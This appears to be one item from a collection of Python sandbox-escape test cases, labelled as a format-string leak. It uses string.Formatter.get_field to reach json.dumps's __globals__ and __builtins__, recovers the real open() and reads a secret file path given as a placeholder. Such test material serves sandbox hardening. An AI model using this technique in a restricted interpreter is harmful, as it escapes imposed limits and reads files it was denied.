# family: format-string leaks (string.Formatter)
# goal: obtain the real open() object with Formatter.get_field
import string
import json
obj, _ = string.Formatter().get_field("0.__globals__", [json.dumps], {})
opener = obj["__builtins__"]["open"]
print(opener("__SECRET_PATH__").read())
